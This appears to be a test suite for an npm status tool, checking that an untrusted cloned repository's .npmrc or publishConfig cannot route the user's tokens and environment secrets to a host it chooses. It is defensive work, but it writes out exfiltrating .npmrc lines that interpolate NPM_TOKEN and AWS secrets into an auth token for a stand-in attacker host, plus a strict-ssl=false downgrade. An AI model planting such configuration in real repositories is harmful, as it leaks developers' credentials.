// Issue "untrusted repositories", as an attacker would try it: a cloned folder whose .npmrc and
// package.json route the user's secrets to a host of its choosing. The core pipeline (what the
// status runs on open, with no click) against the local registry (the user's own, 127.0.0.1) and a
// recording host standing for the repository's (127.0.0.2).
import * as assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { computeStatus, type StatusRequest } from '../../src/core/status/computeStatus';
import { AccountFactsCache } from '../../src/core/status/registryFacts';
import { english } from '../../src/core/base/localize';
import type { WorkspaceTrust } from '../../src/core/status/repositoryTrust';
import { startRecordingHost, type RecordingHost } from '../support/recordingHost';
import { demoToken } from './scenarios';
import { asNpmjs, startRegistry, type LocalRegistry } from './server';

const planted = { NPM_TOKEN: 'planted-env-token-4f9a1c', AWS_SECRET_ACCESS_KEY: 'planted-aws-secret-8d2e7b' };

describe('untrusted repositories: what opening a folder sends (core pipeline, plain Node)', () => {
  let registry: LocalRegistry;
  let attacker: RecordingHost;
  let attackerTls: RecordingHost;
  let root: string;
  let home: string;
  const usersToken = () => demoToken('alice-session');

  before(async () => {
    registry = await startRegistry({ scenario: 'default' });
    attacker = await startRecordingHost();
    attackerTls = await startRecordingHost({ tls: true });
    root = mkdtempSync(path.join(os.tmpdir(), 'npa-untrusted-'));
    home = path.join(root, 'home');
    mkdirSync(home);
  });
  after(async () => {
    rmSync(root, { recursive: true, force: true });
    await Promise.all([registry.close(), attacker.close(), attackerTls.close()]);
  });
  beforeEach(() => {
    registry.reset();
    attacker.requests.length = 0;
    attackerTls.requests.length = 0;
    // The user's own config: logged in to their registry.
    writeFileSync(path.join(home, '.npmrc'), `registry=${registry.url}\n${registry.url.replace(/^http:/, '')}:_authToken=${usersToken()}\n`, { mode: 0o600 });
  });

  let cases = 0;
  function repository(npmrc: string, manifest: Record<string, unknown> = { name: 'demo-pkg', version: '7.0.0' }): string {
    const dir = path.join(root, `repo-${++cases}`);
    mkdirSync(dir);
    writeFileSync(path.join(dir, 'package.json'), JSON.stringify(manifest));
    writeFileSync(path.join(dir, '.npmrc'), npmrc);
    return dir;
  }

  function status(packageFolder: string, workspaceTrust: WorkspaceTrust, accountCache?: AccountFactsCache) {
    const request: StatusRequest = {
      packageFolder,
      config: { env: { HOME: home, PATH: process.env.PATH, ...planted }, userconfig: path.join(home, '.npmrc'), globalconfig: path.join(home, 'no-global'), workspaceTrust },
      registryKinds: asNpmjs(registry),
      publishingAccess: () => ({}),
      loggedInAt: () => undefined,
      now: Date.now(),
      timeoutMs: 5_000,
      ...(accountCache && { accountCache: { cache: accountCache } }),
    };
    return computeStatus(request, english);
  }

  function assertNothingPlanted(host: RecordingHost): void {
    for (const value of [...Object.values(planted), usersToken()]) assert.ok(!host.seen().includes(value), `${value} reached ${host.url}`);
    assert.deepEqual(host.requests.filter((r) => r.headers.authorization), [], 'no authorization header there');
  }

  const exfiltrating = (host: RecordingHost) =>
    `registry=${host.url}\n${host.url.replace(/^https?:/, '')}:_authToken=\${NPM_TOKEN}.\${AWS_SECRET_ACCESS_KEY}\n`;

  it('Restricted Mode: a registry and a ${VAR} credential of the repository\'s choosing get no secret', async () => {
    const s = await status(repository(exfiltrating(attacker)), 'restricted');
    assert.ok(attacker.requests.length > 0, 'the registry choice applies: the package is looked up there');
    assertNothingPlanted(attacker);
    assert.equal(s.verdict.code, 'not-logged-in', 'the user has no credential for that host');
    assert.deepEqual(s.restricted?.ignored, [`${attacker.url.replace(/^http:/, '')}:_authToken`]);
    assert.ok(!JSON.stringify(s).includes(planted.NPM_TOKEN) && !JSON.stringify(s).includes(planted.AWS_SECRET_ACCESS_KEY));
  });

  it('Restricted Mode: an environment value in the registry URL itself is not expanded', async () => {
    await status(repository(`registry=${attacker.url}\${AWS_SECRET_ACCESS_KEY}/\n@demo:registry=${attacker.url}\${NPM_TOKEN}/\n`, { name: '@demo/x', version: '1.0.0' }), 'restricted');
    assertNothingPlanted(attacker);
    // Neither the registry nor the scope mapping applied: the user's own registry was asked, with the user's credential.
    assert.ok(registry.requests.some((r) => r.authorization === 'bearer'));
  });

  it('Restricted Mode: a scope mapping to the user\'s own registry still works, with the user\'s credential', async () => {
    const s = await status(repository(`@demo:registry=${registry.url}\n`, { name: '@demo/lib', version: '1.0.0' }), 'restricted');
    assert.equal(s.registry?.url, registry.url);
    assert.equal(s.credential?.kind, 'session');
    assert.deepEqual(s.restricted?.ignored, []);
  });

  it('Restricted Mode: publishConfig credentials and registry tricks get no secret', async () => {
    const dir = repository('', { name: 'demo-pkg', version: '7.0.0', publishConfig: { registry: attacker.url, [`${attacker.url.replace(/^http:/, '')}:_authToken`]: 'publishconfig-planted' } });
    const s = await status(dir, 'restricted');
    assertNothingPlanted(attacker);
    assert.ok(!attacker.seen().includes('publishconfig-planted'));
    assert.equal(s.verdict.code, 'not-logged-in');
  });

  it('trusted: TLS the repository weakened withholds the credential (the package is still looked up, without it)', async () => {
    const s = await status(repository(`${exfiltrating(attackerTls)}strict-ssl=false\n`), 'trusted');
    assert.equal(s.verdict.code, 'insecure-transport');
    assert.match(s.verdict.reason, /weakens the TLS checks for 127\.0\.0\.2:\d+ \(strict-ssl=false\)/);
    assert.equal(s.transportRisk?.source?.key, 'strict-ssl');
    assert.ok(attackerTls.requests.length > 0);
    assertNothingPlanted(attackerTls);
  });

  it('trusted, as npm: the repository\'s own credential goes to the repository\'s registry (the user trusted it)', async () => {
    await status(repository(exfiltrating(attacker)), 'trusted');
    assert.ok(attacker.requests.some((r) => r.headers.authorization === `Bearer ${planted.NPM_TOKEN}.${planted.AWS_SECRET_ACCESS_KEY}`),
      'the control case: without Restricted Mode npm\'s rules apply, so the test above can fail');
  });

  it('a withheld credential leaves no account answers behind: once its TLS is the user\'s own choice, the account is asked', async () => {
    const cafile = path.join(root, 'attacker-ca.pem');
    writeFileSync(cafile, attackerTls.certificate!);
    const credential = `${attackerTls.url.replace(/^https:/, '')}:_authToken=npm_usersTokenForThatHost000000000000`;
    writeFileSync(path.join(home, '.npmrc'), `${credential}\n`, { mode: 0o600 });
    const cache = new AccountFactsCache();
    const dir = repository(`registry=${attackerTls.url}\ncafile=${cafile}\n`);
    const withheld = await status(dir, 'trusted', cache);
    assert.equal(withheld.verdict.code, 'insecure-transport');
    assert.deepEqual(attackerTls.requests.filter((r) => r.url.startsWith('/-/')), [], 'no account request while withheld');
    // The same registry and token, the CA now in the user's own npmrc: the account is asked at once.
    writeFileSync(path.join(dir, '.npmrc'), `registry=${attackerTls.url}\n`);
    writeFileSync(path.join(home, '.npmrc'), `${credential}\ncafile=${cafile}\n`, { mode: 0o600 });
    const trusted = await status(dir, 'trusted', cache);
    assert.equal(trusted.transportRisk, undefined);
    assert.ok(attackerTls.requests.some((r) => r.url === '/-/whoami' && r.headers.authorization), attackerTls.requests.map((r) => r.url).join(', '));
  });
});
